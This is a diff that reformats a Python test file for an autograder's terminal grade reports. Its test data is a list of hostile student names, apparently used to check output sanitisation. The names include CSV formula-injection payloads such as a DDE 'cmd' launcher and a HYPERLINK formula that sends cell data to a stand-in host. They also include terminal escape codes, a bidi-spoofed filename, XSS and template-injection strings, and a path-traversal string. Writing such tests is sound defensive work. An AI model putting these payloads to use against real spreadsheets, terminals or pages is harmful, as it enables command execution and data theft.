@@ -29,31 +29,87 @@ from autograder.reports.terminal.grades import class_table, student_view
 
 SPEC = Assignment.model_validate(
     {
-        "format": 1, "id": "a1", "title": "First",
+        "format": 1,
+        "id": "a1",
+        "title": "First",
         "exercise": [
-            {"id": "e", "title": "About e", "defines": ["x"], "check": [
-                {"id": "c", "title": "About c", "points": Decimal(1), "kind": "value", "name": "x",
-                 "public": True},
-            ]},
+            {
+                "id": "e",
+                "title": "About e",
+                "defines": ["x"],
+                "check": [
+                    {
+                        "id": "c",
+                        "title": "About c",
+                        "points": Decimal(1),
+                        "kind": "value",
+                        "name": "x",
+                        "public": True,
+                    },
+                ],
+            },
         ],
     }
-)  # fmt: skip
+)
 SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
 FORMULA = "=cmd|' /C calc'!A0"
 NAMES = [
     *(f"{blank}{sign}1+1" for sign in SIGNS for blank in ("", " ", "\t", "\xa0", "\u3000", "\r\n")),
     *(f"x{split}{sign}1" for sign in SIGNS for split in (";", "; ", ';"', ',"', "\n", "\t", ";\t")),
-    FORMULA, f'"{FORMULA}"', f"x;{FORMULA}", f'x;"{FORMULA}"', f'",{FORMULA},"', f'";{FORMULA};"',
-    '=HYPERLINK("http://x.y?"&A1,"ok")', "a;;=1", "a;';=1", "@SUM(1)", "-2+3+cmd", "+1;-1;=1",
-    "\x1b[2J\x1b]0;owned\x07", "\x9b31m", "\x00", "\x08\x08", "\u202egnp.exe", "\u2066a\u2069",
-    "\u200b=1", "\ufeff=1", "\u3164", "\u115f\u1160", "\U000e0041", "\u2028\u2029", "\ud800",
+    FORMULA,
+    f'"{FORMULA}"',
+    f"x;{FORMULA}",
+    f'x;"{FORMULA}"',
+    f'",{FORMULA},"',
+    f'";{FORMULA};"',
+    '=HYPERLINK("http://x.y?"&A1,"ok")',
+    "a;;=1",
+    "a;';=1",
+    "@SUM(1)",
+    "-2+3+cmd",
+    "+1;-1;=1",
+    "\x1b[2J\x1b]0;owned\x07",
+    "\x9b31m",
+    "\x00",
+    "\x08\x08",
+    "\u202egnp.exe",
+    "\u2066a\u2069",
+    "\u200b=1",
+    "\ufeff=1",
+    "\u3164",
+    "\u115f\u1160",
+    "\U000e0041",
+    "\u2028\u2029",
+    "\ud800",
     "\udcff",
-    "[bold]x[/bold]", "[link=http://x]y[/link]", ":warning:", "{{7*7}}", "%s%n", "{0}", "\\x1b",
-    "<b onclick=x>", "&lt;script&gt;", "'\"><script>x</script>", "../../etc/passwd", "con", "-rf",
+    "[bold]x[/bold]",
+    "[link=http://x]y[/link]",
+    ":warning:",
+    "{{7*7}}",
+    "%s%n",
+    "{0}",
+    "\\x1b",
+    "<b onclick=x>",
+    "&lt;script&gt;",
+    "'\"><script>x</script>",
+    "../../etc/passwd",
+    "con",
+    "-rf",
     "",
-]  # fmt: skip
-FORBIDDEN = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0), 0x61C, *range(0x200E, 0x2010),
-             *range(0x2028, 0x202F), *range(0x2066, 0x206A), 0xFEFF, 0x3164)} - {"\n"}  # fmt: skip
+]
+FORBIDDEN = {
+    chr(n)
+    for n in (
+        *range(0x20),
+        *range(0x7F, 0xA0),
+        0x61C,
+        *range(0x200E, 0x2010),
+        *range(0x2028, 0x202F),
+        *range(0x2066, 0x206A),
+        0xFEFF,
+        0x3164,
+    )
+} - {"\n"}
 
 
 @cache
